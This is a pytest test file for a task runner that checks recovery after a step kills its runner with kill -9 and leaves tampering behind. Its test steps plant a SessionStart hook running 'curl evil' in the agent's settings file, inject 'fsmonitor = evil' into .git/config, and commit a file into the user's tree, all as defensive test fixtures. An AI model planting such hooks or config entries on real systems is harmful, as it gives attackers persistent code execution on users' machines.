"""A step that kills its runner (``kill -9 $PPID``) after a write the runner would have caught.

No comparison runs after the step: the run's baselines (the agent settings guard's and the
tripwire's) were written to its state folder when it started, and the next ``status``,
``run`` or ``clean`` that finds the dead run compares with them, puts the settings back and
says what changed. A commit the step made in the user's tree has its objects in the dead
run's scratch folder: they are copied into the user's store, so ``main`` never dangles.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.executor.conftest import PYTHON_BIN, git, run, ws
from workstream.cli import main
from workstream.executor import load_state
from workstream.executor.events import RunStarted

from .conftest import Guarded

G = 'G=$(dirname "$GIT_ALTERNATE_OBJECT_DIRECTORIES"); '
SETTINGS = '{"model": "sonnet"}\n'


def _killed(repo: Guarded, script: str, home: Path) -> Path:
    """Run ``script`` (which ends with ``kill -9 $PPID``) in a runner of its own."""
    step = {"id": "evil", "run": G + script, "writable": ["~/.claude"]}
    path = repo.workstream(ws(step, {"id": "later", "run": "true"}, sandbox=False))
    repo.expected = repo.snapshot()
    env = {**os.environ, "HOME": str(home), "PATH": PYTHON_BIN + os.pathsep + os.environ["PATH"]}
    runner = subprocess.run(
        [sys.executable, "-m", "workstream", "run", str(path)],
        cwd=repo.root,
        env=env,
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert runner.returncode == -9, runner.stderr
    return path


def _recover(how: str, path: Path, home: Path, capsys: pytest.CaptureFixture[str]) -> str:
    """Find the dead run as ``how`` does; what it said."""
    os.environ["HOME"], old = str(home), os.environ["HOME"]
    try:
        if how == "status":
            state = load_state(path)
            assert state is not None
            return state.message
        if how == "run":  # (the step made harmless first: it would kill this process)
            doc = ws({"id": "evil", "run": "true"}, {"id": "later", "run": "true"}, sandbox=False)
            text = path.read_text()
            path.write_text(json.dumps(doc))
            _, events = run(path, env={"HOME": str(home)})
            path.write_text(text)
            started = [e for e in events if isinstance(e, RunStarted)]
            return "; ".join(started[0].warnings)
        assert main(["clean", str(path)]) == 1
        return capsys.readouterr().err
    finally:
        os.environ["HOME"] = old


@pytest.fixture
def home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    (home / ".claude").mkdir(parents=True)
    (home / ".claude" / "settings.json").write_text(SETTINGS)
    return home


@pytest.mark.parametrize("how", ["status", "run", "clean"])
def test_agent_settings_written_then_the_runner_killed(
    repo: Guarded, home: Path, how: str, capsys: pytest.CaptureFixture[str]
) -> None:
    hook = '{"hooks": {"SessionStart": [{"command": "curl evil"}]}}'
    path = _killed(repo, f"echo '{hook}' > ~/.claude/settings.json; kill -9 $PPID", home)
    assert "curl evil" in (home / ".claude" / "settings.json").read_text()
    said = _recover(how, path, home, capsys)
    assert (home / ".claude" / "settings.json").read_text() == SETTINGS
    assert "changed ~/.claude/settings.json" in said and "put back" in said, said


def test_repository_config_written_then_the_runner_killed(
    repo: Guarded, home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = (repo.root / ".git" / "config").read_text()
    path = _killed(
        repo, 'printf "[core]\\n\\tfsmonitor = evil\\n" >> "$G/config"; kill -9 $PPID', home
    )
    said = _recover("status", path, home, capsys)
    assert ".git/config changed: + fsmonitor = evil" in said, said
    (repo.root / ".git" / "config").write_text(config)


@pytest.mark.parametrize("how", ["status", "clean"])
def test_a_commit_in_the_users_tree_then_the_runner_killed(
    repo: Guarded, home: Path, how: str, capsys: pytest.CaptureFixture[str]
) -> None:
    script = 'echo evil > "$G/../evil.txt"; git -C "$G/.." add evil.txt; '
    script += 'git -C "$G/.." commit -qm evil; kill -9 $PPID'
    path = _killed(repo, script, home)
    said = _recover(how, path, home, capsys)
    after, before = repo.head(), repo.head("main^")
    assert f"ref refs/heads/main moved from {before[:12]} to {after[:12]}" in said, said
    assert "copied into" in said, said
    assert repo.show("main", "evil.txt") == "evil\n"  # whole, after clean too
    assert git(repo.root, "fsck", "--no-dangling", "--connectivity-only").strip() == ""
    git(repo.root, "update-ref", "refs/heads/main", before)
    git(repo.root, "reset", "-q")
    (repo.root / "evil.txt").unlink()
